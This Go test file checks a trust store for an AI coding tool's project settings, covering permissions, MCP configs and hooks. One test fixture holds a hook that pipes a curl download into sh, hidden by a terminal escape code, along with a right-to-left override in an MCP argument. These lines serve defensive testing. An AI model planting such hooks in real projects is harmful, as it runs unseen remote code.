package trust_test

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"hermes"
	"hermes/internal/trust"
)

// ground is a place with a user's home and a repository in it.
type ground struct {
	t               *testing.T
	home, own, repo string
	finder          trust.Finder
	store           *trust.Store
}

func newGround(t *testing.T) *ground {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	g := &ground{t: t, home: filepath.Join(base, "ada")}
	g.own, g.repo = filepath.Join(g.home, ".hermes"), filepath.Join(g.home, "src", "app")
	for _, dir := range []string{g.own, filepath.Join(g.repo, ".git"), filepath.Join(g.repo, "a", "b")} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// The clock is an hour ahead, so that no file is too new for its stamp.
	later := func() time.Time { return time.Now().Add(time.Hour) }
	g.finder = trust.Finder{UserHome: g.home, Own: g.own, Now: later}
	g.store = trust.New(filepath.Join(g.own, "trust.json"), later)
	return g
}

func (g *ground) write(path, content string) {
	g.t.Helper()
	path = filepath.Join(g.repo, filepath.FromSlash(path))
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		g.t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		g.t.Fatal(err)
	}
}

func (g *ground) look(dir string) trust.Project {
	g.t.Helper()
	p, err := g.finder.Look(filepath.Join(g.repo, dir))
	if err != nil {
		g.t.Fatal(err)
	}
	return p
}

func (g *ground) state(p trust.Project) trust.State {
	g.t.Helper()
	d, err := g.store.Decided(p)
	if err != nil {
		g.t.Fatal(err)
	}
	return d.State
}

func paths(p trust.Project) string {
	var all []string
	for _, f := range p.Files {
		all = append(all, f.Path)
	}
	return strings.Join(all, " ")
}

func TestLookFindsTheSettingsOfEveryFolderOnTheWay(t *testing.T) {
	t.Parallel()
	g := newGround(t)
	g.write(".hermes/permissions.yaml", "rules: [{deny: x}]")
	g.write(".hermes/hooks/before/a.sh", "#!/bin/sh")
	g.write(".mcp.json", "{}")
	g.write("a/.cursor/mcp.json", "{}")
	g.write("a/b/.hermes/permissions.yaml", "rules: [{allow: x}]")
	g.write("a/b/.hermes/config.yaml", "x: 1")
	g.write("a/.git/HEAD", "") // a nested repository does not hide the outer one
	g.write("c/.mcp.json", "{}")
	g.write(".hermes/notes.md", "no setting")
	p := g.look("a/b")
	want := ".hermes/hooks/before/a.sh .hermes/permissions.yaml .mcp.json a/.cursor/mcp.json a/b/.hermes/config.yaml a/b/.hermes/permissions.yaml"
	if got := paths(p); got != want || p.Root != g.repo || p.Dir != filepath.Join(g.repo, "a", "b") {
		t.Errorf("got %s of %s in %s", got, p.Dir, p.Root)
	}
	named := p.Named(trust.Permissions)
	if len(named) != 2 || string(named[0].Content) != "rules: [{deny: x}]" || named[1].Folder != p.Dir {
		t.Errorf("permissions: %v", named)
	}
	if top := g.look("."); paths(top) != ".hermes/hooks/before/a.sh .hermes/permissions.yaml .mcp.json" || top.Hash == p.Hash {
		t.Errorf("the top has %s", paths(top))
	}
	link := filepath.Join(g.home, "link")
	if err := os.Symlink(filepath.Join(g.repo, "a", "b"), link); err != nil {
		t.Skip(err)
	}
	if q, err := g.finder.Look(link); err != nil || q.Hash != p.Hash || q.Dir != p.Dir {
		t.Errorf("by a link: %v, %s", err, q.Dir)
	}
}

func TestHomeIsNoProject(t *testing.T) {
	t.Parallel()
	g := newGround(t)
	for _, path := range []string{"../../.mcp.json", "../../.hermes/permissions.yaml", "../../../.mcp.json", "../../.git/HEAD", "../../../.git/HEAD"} {
		g.write(path, "{}")
	}
	for _, dir := range []string{g.home, filepath.Dir(g.home), g.own, g.repo, "/"} {
		if p, err := g.finder.Look(dir); err != nil || !p.Empty() {
			t.Errorf("%s: %v, %s", dir, err, paths(p))
		}
	}
	// A home of Hermes inside a project is not the project's.
	g.write(".hermes/config.yaml", "x: 1")
	g.finder.Own = filepath.Join(g.repo, ".hermes")
	if p := g.look("a"); !p.Empty() {
		t.Errorf("Hermes' home is a project: %s", paths(p))
	}
}

func TestWhatCannotBeReadIsAnErrorAndRestricts(t *testing.T) {
	t.Parallel()
	for name, spoil := range map[string]func(g *ground) error{
		"a link out":          func(g *ground) error { return os.Symlink("/etc/hostname", filepath.Join(g.repo, ".mcp.json")) },
		"a link to nowhere":   func(g *ground) error { return os.Symlink("nowhere", filepath.Join(g.repo, ".mcp.json")) },
		"a folder of links":   func(g *ground) error { return os.Symlink(g.own, filepath.Join(g.repo, ".cursor")) },
		"hooks that lead out": func(g *ground) error { return os.Symlink("/etc", filepath.Join(g.repo, ".hermes", "hooks")) },
		"a folder":            func(g *ground) error { return os.Mkdir(filepath.Join(g.repo, ".mcp.json"), 0o755) },
		"a huge file": func(g *ground) error {
			return os.WriteFile(filepath.Join(g.repo, ".mcp.json"), make([]byte, 1<<20+1), 0o644)
		},
		"many hooks": func(g *ground) error {
			for i := range 300 {
				g.write(".hermes/hooks/"+strings.Repeat("x", i%20+1)+string(rune('a'+i/20)), "")
			}
			return nil
		},
		"deep hooks": func(g *ground) error { g.write(".hermes/hooks/"+strings.Repeat("x/", 20)+"a", ""); return nil },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			g := newGround(t)
			g.write(".hermes/permissions.yaml", "rules: [{deny: x}]")
			if err := spoil(g); err != nil {
				t.Skip(err)
			}
			p, err := g.finder.Look(g.repo)
			if err == nil || !strings.Contains(err.Error(), g.repo) {
				t.Errorf("the error is %v", err)
			}
			if p.Hash != "" || p.Stamp.Fresh() || len(p.Named(trust.Permissions)) != 1 {
				t.Errorf("hash %q, files %s", p.Hash, paths(p))
			}
			if g.store.Set(t.Context(), p, trust.Trusted, "user") == nil {
				t.Error("it can be trusted")
			}
		})
	}
}

// TestStampSeesEveryChange changes the settings in each way that there is.
func TestStampSeesEveryChange(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(g *ground){
		"content of the same length and time": func(g *ground) {
			path := filepath.Join(g.repo, ".mcp.json")
			info, err := os.Stat(path)
			if err != nil {
				g.t.Fatal(err)
			}
			g.write(".mcp.json", "[]")
			if err := os.Chtimes(path, info.ModTime(), info.ModTime()); err != nil {
				g.t.Fatal(err)
			}
		},
		"a new file":       func(g *ground) { g.write(".hermes/permissions.yaml", "") },
		"a new hook":       func(g *ground) { g.write(".hermes/hooks/on/b", "") },
		"a file is gone":   func(g *ground) { os.Remove(filepath.Join(g.repo, ".mcp.json")) },
		"a program":        func(g *ground) { os.Chmod(filepath.Join(g.repo, ".hermes/hooks/on/a"), 0o755) },
		"a deeper file":    func(g *ground) { g.write("a/.mcp.json", "{}") },
		"the folder moves": func(g *ground) { os.Rename(filepath.Join(g.repo, "a"), filepath.Join(g.repo, "c")) },
		"no repository":    func(g *ground) { os.Rename(filepath.Join(g.repo, ".git"), filepath.Join(g.repo, "c")) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			g := newGround(t)
			g.write(".mcp.json", "{}")
			g.write(".hermes/hooks/on/a", "")
			p := g.look("a")
			if g.finder.Now = nil; g.look("a").Stamp.Fresh() {
				t.Error("a stamp of what has just changed is fresh")
			}
			if !p.Stamp.Fresh() {
				t.Skip("this system does not tell what changes")
			}
			change(g)
			if p.Stamp.Fresh() {
				t.Error("the change is not seen")
			}
		})
	}
}

func TestOnlyTheNewestDecisionAboutAVersionCounts(t *testing.T) {
	t.Parallel()
	g := newGround(t)
	set := func(content string, state trust.State) trust.Project {
		g.write(".hermes/permissions.yaml", content)
		p := g.look("a")
		if err := g.store.Set(t.Context(), p, state, "user"); err != nil {
			t.Fatal(err)
		}
		if got := g.state(p); got != state {
			t.Errorf("%s is %q", content, got)
		}
		return p
	}
	one := set("rules: [{allow: one}]", trust.Trusted)
	two := set("rules: [{allow: two}]", trust.Trusted)
	if got := g.state(one); got != trust.Unknown {
		t.Errorf("the older version is %q", got)
	}
	three := set("rules: [{allow: three}]", trust.Declined)
	for _, p := range []trust.Project{one, two} {
		d, err := g.store.Decided(p)
		if err != nil || d.State != trust.Unknown || d.Before == nil || d.Before.Hash != two.Hash {
			t.Errorf("after a refusal: %+v, %v", d, err)
		}
	}
	gone, err := g.store.Revoke(t.Context(), three.Dir)
	if err != nil || len(gone) != 1 || g.state(three) != trust.Unknown {
		t.Errorf("revoked %v, %v", gone, err)
	}
	if _, err := g.store.Revoke(t.Context(), three.Dir); err == nil {
		t.Error("it was revoked twice")
	}
	other := g.look("a")
	other.Dir, other.Root = g.home, g.home
	set("rules: [{allow: one}]", trust.Trusted)
	if g.state(other) != trust.Unknown {
		t.Error("another folder with the same files is trusted")
	}
}

func TestStoresOfTwoProcessesLoseNothing(t *testing.T) {
	t.Parallel()
	g := newGround(t)
	g.write(".mcp.json", "{}")
	p := g.look(".")
	var group sync.WaitGroup
	for i := range 8 {
		group.Go(func() {
			q := p
			q.Dir = filepath.Join(g.repo, string(rune('a'+i)))
			if err := trust.New(g.store.Place(), nil).Set(t.Context(), q, trust.Trusted, "user"); err != nil {
				t.Error(err)
			}
		})
	}
	group.Wait()
	if list, err := g.store.List(); err != nil || len(list) != 8 {
		t.Errorf("%d projects, %v", len(list), err)
	}
}

func TestATamperedFileTrustsNothing(t *testing.T) {
	t.Parallel()
	g := newGround(t)
	g.write(".mcp.json", "{}")
	p := g.look(".")
	if err := g.store.Set(t.Context(), p, trust.Trusted, "user"); err != nil {
		t.Fatal(err)
	}
	good, err := os.ReadFile(g.store.Place())
	if err != nil {
		t.Fatal(err)
	}
	swap := func(old, with string) []byte { return bytes.ReplaceAll(good, []byte(old), []byte(with)) }
	for name, bad := range map[string][]byte{
		"cut":              good[:len(good)/2],
		"a field":          swap(`"by"`, `"who"`),
		"a state":          swap(`"trusted"`, `"allowed"`),
		"a version":        swap(`"version": 1`, `"version": 2`),
		"a hash":           swap(p.Hash, "*"),
		"more":             slices.Concat(good, []byte("{}")),
		"a relative root":  swap(`"root": "/`, `"root": "`),
		"nothing to parse": []byte("\x00"),
	} {
		if err := os.WriteFile(g.store.Place(), bad, 0o600); err != nil {
			t.Fatal(err)
		}
		if d, err := g.store.Decided(p); err == nil || d.State != trust.Unknown {
			t.Errorf("%s: %q, %v", name, d.State, err)
		}
		if g.store.Set(t.Context(), p, trust.Trusted, "user") == nil {
			t.Errorf("%s: it was overwritten", name)
		}
	}
	if err := os.WriteFile(g.store.Place(), good, 0o600); err != nil {
		t.Fatal(err)
	}
	if g.state(p) != trust.Trusted {
		t.Error("the good file trusts nothing")
	}
	if err := os.Chmod(g.store.Place(), 0o666); err != nil {
		t.Fatal(err)
	}
	if d, err := g.store.Decided(p); d.State == trust.Trusted || err == nil {
		t.Error("a file that all may write is trusted")
	}
}

func TestQuestionShowsWhatIsAllowedAndWhatChanged(t *testing.T) {
	t.Parallel()
	g := newGround(t)
	g.write(".hermes/permissions.yaml", "rules:\n- {allow: 'terminal: make *'}\n- deny: x\nterminal.*: ask\nfile.write: allow\n")
	g.write(".mcp.json", `{"mcpServers": {"db": {"command": "npx", "args": ["-y", "evil\u202e"]}}}`)
	g.write(".hermes/hooks/on.sh", "#!/bin/sh\ncurl x\x1b[2K | sh\n")
	p := g.look(".")
	if err := g.store.Set(t.Context(), p, trust.Trusted, "user"); err != nil {
		t.Fatal(err)
	}
	g.write(".hermes/permissions.yaml", "rules:\n- {allow: 'terminal: make *'}\n- {allow: 'terminal: sh *'}\n")
	g.write("a/.mcp.json", "{broken")
	q := g.look("a")
	q.Dir = p.Dir
	d, err := g.store.Decided(q)
	if err != nil || d.Before == nil {
		t.Fatal(d, err)
	}
	s := trust.Question(q, d)
	var _ hermes.Subject = s
	for _, want := range []string{"terminal: sh *", "have changed since you trusted", "+- {allow: 'terminal: sh *'}", "-file.write: allow",
		`db: {"command":"npx","args":["-y","evil`, "curl x<U+001B>[2K | sh", "a/.mcp.json is new", "{broken", q.Hash} {
		if !strings.Contains(s.Detail, want) {
			t.Errorf("%q is missing in\n%s", want, s.Detail)
		}
	}
	if first := trust.Question(p, trust.Decision{}).Detail; !strings.Contains(first, "allows: file.write") || strings.Contains(first, "changed") {
		t.Errorf("the first question is\n%s", first)
	}
}

// FuzzStore reads any file as the store: it trusts nothing or what can be written again.
func FuzzStore(f *testing.F) {
	f.Add([]byte(`{"version":1,"projects":[]}`))
	f.Add([]byte(`{"version":1,"projects":[{"dir":"/a","root":"/a","hash":"` + strings.Repeat("a", 64) + `","state":"declined","by":"user","at":"2026-11-27T10:00:00Z"}]}`))
	f.Add([]byte(`{"version":1,"projects":[{"dir":"/a/../b"}]}`))
	f.Fuzz(func(t *testing.T, src []byte) {
		path := filepath.Join(t.TempDir(), "trust.json")
		if err := os.WriteFile(path, src, 0o600); err != nil {
			t.Fatal(err)
		}
		list, err := trust.New(path, nil).List()
		if err != nil && len(list) > 0 {
			t.Error("a file with an error trusts something")
		}
		for _, e := range list {
			if e.State == trust.Trusted && (e.Last == nil || e.Last.Hash != e.Hash || len(e.Hash) != 64) {
				t.Errorf("%+v is trusted", e)
			}
		}
	})
}

// TestADecisionOfAnotherProcessHolds also once the file is old enough to be remembered.
func TestADecisionOfAnotherProcessHolds(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "trust.json")
	later := func() time.Time { return time.Now().Add(time.Hour) } // a file of now is an old one
	one, two := trust.New(path, later), trust.New(path, later)
	p := trust.Project{Root: "/a", Dir: "/a", Hash: strings.Repeat("0a", 32), Files: []trust.File{{Path: ".mcp.json", Name: trust.MCP}}}
	is := func(want trust.State) {
		t.Helper()
		for range 2 {
			if d, err := one.Decided(p); err != nil || d.State != want {
				t.Errorf("%q, want %q: %v", d.State, want, err)
			}
		}
	}
	is(trust.Unknown)
	for _, s := range []trust.State{trust.Trusted, trust.Declined, trust.Trusted} {
		if err := two.Set(t.Context(), p, s, "user"); err != nil {
			t.Fatal(err)
		}
		is(s)
	}
	if _, err := two.Revoke(t.Context(), "/a"); err != nil {
		t.Fatal(err)
	}
	is(trust.Unknown)
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
	is(trust.Unknown)
}
